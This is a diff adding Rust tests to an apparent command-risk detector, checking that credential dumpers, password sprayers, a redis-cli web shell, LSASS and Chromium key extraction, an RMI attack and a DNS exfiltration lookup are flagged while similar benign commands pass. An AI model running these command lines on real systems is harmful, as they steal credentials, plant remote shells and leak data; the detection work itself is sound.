@@ -163,3 +163,77 @@ fn system_services_driven_over_dbus() {
     );
     clean("busctl list");
 }
+
+/// ppnd (session 51): credential dumpers and sprayers without a row
+/// (spraykatz, mscache, masky, pyKerbrute's ADPwdSpray, BaRMIe's
+/// `-attack`), a web shell stored through `redis-cli`, a private key's
+/// numbers printed by `openssl asn1parse`, Chromium's `Local State` and an
+/// LSASS minidump read by their file names.
+#[test]
+fn ppnd_misses() {
+    flagged_each(
+        &[
+            "python3 spraykatz.py -u snovvcrash -p 'Passw0rd!' -t 10.10.13.37,10.10.13.38",
+            "python mscache.py --system system.hive --security security.hive",
+            "masky -d tinycorp -u snovvcrash -p 'Passw0rd!' -ca 'CA01.megacorp.local\\CorpCA' -dc-ip 192.168.1.11 10.10.13.37",
+            "python2 ADPwdSpray.py 192.168.1.11 megacorp.local users.txt ntlmhash fc525c9683e8fe067095ba2ddc971889 udp",
+            "cat 'Local State' | jq '.os_crypt.encrypted_key' -r | base64 -d | tail -c +6 | base64 -w0; echo",
+            "grep -P '\\tusername ' lsass-pypykatz.minidump -A2 | grep -e username -e password",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    flagged_each(
+        &[
+            "java -jar BaRMIe.jar -attack 10.10.13.37 1098",
+            "redis-cli -h 127.0.0.1 set pwn '<?php system($_REQUEST['cmd']); ?>'",
+        ],
+        Category::RemoteCodeExec,
+        Severity::High,
+    );
+    flagged(
+        "openssl asn1parse -in rsa_key",
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    for c in [
+        "java -jar BaRMIe.jar -enum 10.10.13.37 1098",
+        "openssl asn1parse -in cert.pem",
+        "redis-cli -h 127.0.0.1 set greeting hello",
+    ] {
+        clean(c);
+    }
+}
+
+/// devdocsh (session 51): three benign lines denied. `security import
+/// CERT -k login.keychain-db` writes into the keychain (asked as an
+/// import, not denied as reading it); `minikube start --docker-opt
+/// containerd=/var/run/containerd/containerd.sock` configures the cluster
+/// VM's runtime; `nslookup NAME $(minikube ip)` names its server from
+/// output, not the name it looks up (asked, as a server named by output
+/// is itself looked up).
+#[test]
+fn devdocsh_false_denials() {
+    each(
+        &["security import ~/Downloads/mac_development.cer -k ~/Library/Keychains/login.keychain-db"],
+        "SelfEscalation Medium",
+    );
+    clean("minikube start --container-runtime=containerd --docker-opt containerd=/var/run/containerd/containerd.sock");
+    each(
+        &[
+            "nslookup hello-john.test $(minikube ip)",
+            "dig @$(minikube ip) hello.test",
+        ],
+        "Exfiltration Medium",
+    );
+    flagged(
+        "nslookup $(whoami).x.example.net 8.8.8.8",
+        Category::Exfiltration,
+        Severity::High,
+    );
+    flagged(
+        "security find-generic-password -w -s github -k ~/Library/Keychains/login.keychain-db",
+        Category::CredentialAccess,
+        Severity::High,
+    );
+}
